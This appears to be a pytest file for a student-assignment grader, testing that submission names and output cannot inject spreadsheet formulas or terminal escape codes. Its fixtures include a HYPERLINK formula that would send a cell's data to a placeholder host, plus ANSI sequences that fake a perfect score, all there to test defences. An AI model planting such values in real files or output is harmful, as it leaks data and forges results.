"""Output that cannot mislead: what a submission controls is shown as text, never obeyed."""
from __future__ import annotations

import zipfile

from grader import catalogue
from grader.cohort import gradebook
from grader.cohort.intake import discover
from grader.report import terminal

FAKE = "\x1b[2J\x1b[H\x1b[32m  Total   20 / 20\x1b[0m"


def test_a_formula_named_zip_is_plain_text_in_the_gradebook(tmp_path):
    """A zip named like a spreadsheet formula gives a name that the gradebook writes as text (a
    leading apostrophe): opening the CSV runs nothing."""
    cohort = tmp_path / "rendus"
    cohort.mkdir()
    names = ['=HYPERLINK("exemple.invalid?"&A1;"20")', "+1+1", "-2+3", "@SUM(A1)"]
    for name in names:
        with zipfile.ZipFile(cohort / f"{name}.zip", "w") as archive:
            archive.writestr("ex01_process.py", "print('bonjour')\n")
    found = discover(cohort, tmp_path / "work", ["ex01_process.py"])
    assert sorted(submission.name for submission in found) == sorted(names)
    rows = [gradebook.row(submission.id, submission.name, None, problem=submission.name)
            for submission in found]
    path = tmp_path / "gradebook.csv"
    gradebook.write(rows, ["ex01_process"], catalogue.load("fr"), path)
    cells = [cell for line in gradebook.read(path)[1:] for cell in line]
    assert all(not cell.startswith(gradebook.FORMULA_STARTS) for cell in cells), cells
    assert sorted(line[1] for line in gradebook.read(path)[1:]) == sorted("'" + name for name in names)


def test_control_characters_of_student_text_are_shown_not_obeyed():
    """Escape sequences in a submission's name, a message filled with its output, the lines of its
    output quoted under an error: the summary shows them as ``\\x1b[…``, and holds no escape of
    its own when it is not painted."""
    check = {"id": "main_resultat", "title": "main()", "category": "result", "status": "error",
             "score": 0, "max_score": 1, "message": f"main a levé RuntimeError : {FAKE}",
             "hint": "Lisez la trace.", "details": f"ligne 1\n{FAKE}\n\x07\x9b2J"}
    report = {"submission": f"rendu{FAKE}", "seed": 1, "start_method": "spawn",
              "containment": "bubblewrap", "score": 0, "max_score": 1,
              "exercises": [{"id": "ex02_main_guard", "title": "Garde", "score": 0, "max_score": 1,
                             "checks": [check]}]}
    shown = terminal.render(report, catalogue.load("fr"))
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert shown.count("\\x1b[2J") == 3 and "\\x07" in shown
    assert "bac à sable bubblewrap" in shown  # the containment used is said
